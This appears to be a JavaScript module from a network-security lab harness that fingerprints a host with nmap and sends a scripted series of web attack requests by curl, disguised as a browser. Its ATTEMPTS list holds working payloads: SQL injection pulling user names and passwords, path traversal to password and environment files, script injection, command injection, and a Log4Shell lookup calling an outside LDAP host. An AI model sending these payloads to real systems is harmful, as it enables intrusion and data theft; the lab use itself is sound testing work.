// Probing one host: how its system answers, and what its web server does with hostile addresses.

const LIMIT_MS = 60_000;

/** nmap's questions to the TCP/IP stack, after three ports of which one is open. */
export async function nmapSystem(lab, { from, targets, ports }) {
  const args = ['-O', '-Pn', '-n', '--max-retries', '1', '-p', ports, ...targets];
  await lab.run(from, 'nmap', args, { limitMs: LIMIT_MS });
  return {
    orig: [from.v4],
    resp: targets,
    proto: 'tcp',
    ports: [],
    program: `nmap ${args.join(' ')}`,
  };
}

/** What is tried: the kinds are those of OWASP's testing guide. */
const ATTEMPTS = [
  "/list.html?id=7'%20AND%201=1--%20",
  '/list.html?id=7%20UNION%20SELECT%20null,name,pass%20FROM%20users',
  "/list.html?sort=price';WAITFOR%20DELAY%20'0:0:4'--",
  '/list.html?page=../../../../etc/passwd',
  '/news.html?file=..%2f..%2f..%2fproc%2fself%2fenviron',
  '/news.html?q=%3Cscript%3Ealert(1)%3C/script%3E',
  '/about.html?host=127.0.0.1;cat%20/etc/hostname',
  '/about.html?next=javascript:alert(document.cookie)',
  '/index.html?q=%24%7Bjndi:ldap://192.0.2.1/a%7D',
];

/** Each attempt by a curl of its own that calls itself a browser. */
export async function curlAttempts(lab, { from, to, pauseS }) {
  const random = lab.random.split();
  for (const attempt of ATTEMPTS) {
    const url = `http://${to.v4}${attempt}`;
    const options = ['-s', '-m', '6', '-o', '/dev/null', '--path-as-is', '-A', 'Mozilla/5.0'];
    await lab.run(from, 'curl', [...options, url]);
    await lab.pause(1000 * random.between(...pauseS));
  }
  return {
    orig: [from.v4],
    resp: [to.v4],
    proto: 'tcp',
    ports: [80],
    program: `curl -A Mozilla/5.0 http://${to.v4}/…`,
    note: `${ATTEMPTS.length} addresses`,
  };
}
